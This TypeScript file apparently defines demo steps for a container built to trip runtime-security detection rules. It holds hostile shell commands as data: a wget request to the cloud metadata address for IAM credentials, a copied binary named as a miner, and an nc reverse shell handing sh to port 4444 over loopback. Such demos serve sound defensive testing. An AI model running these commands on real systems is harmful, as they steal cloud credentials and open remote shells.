/** One misbehaviour of the demo container. */
export interface DemoStep {
  /** Printed by the container when it begins; also the name of the step. */
  marker: string;
  /** What a person reads. */
  says: string;
  /** What should see it. */
  rule: string;
  /** Shell, run by the container's first process. Must be harmless where nothing watches. */
  shell: string;
}

export const demoSteps: readonly DemoStep[] = [
  {
    marker: 'drift',
    says: 'copies a program to /tmp and runs the copy, which is not part of the image',
    rule: 'exec-drift',
    shell: `if cp /bin/busybox /tmp/busybox-miner; then /tmp/busybox-miner sleep 1; else cp /bin/sh /tmp/miner; /tmp/miner -c :; fi`,
  },
  {
    marker: 'metadata',
    says: 'asks the cloud metadata address for credentials (it has no network: nothing leaves this machine)',
    rule: 'net-metadata-tool',
    shell: 'wget -O - http://169.254.169.254/latest/meta-data/iam/security-credentials/',
  },
  {
    marker: 'network',
    says: 'tries to change its network devices, which it has no right to',
    rule: 'cap-denied',
    shell: 'ifconfig lo mtu 9000 || ip link set lo mtu 9000',
  },
  {
    marker: 'shell',
    says: 'hands a shell to a network connection with nc (to itself, over loopback)',
    rule: 'reverse-shell, and network-tool',
    shell: '{ sleep 1; echo id; } | nc -l -p 4444 & sleep 0.5; nc 127.0.0.1 4444 -e sh; wait',
  },
];

/** The container's program: each step after its marker, a moment apart. Only markers reach standard output. */
export function demoScript(steps: readonly DemoStep[] = demoSteps): string {
  const body = steps.map(({ marker, shell }) => `echo ${marker}\n{ ${shell}; } >/dev/null 2>&1\nsleep 1`);
  return ['#!/bin/sh', 'sleep 1', ...body, 'echo done', ''].join('\n');
}
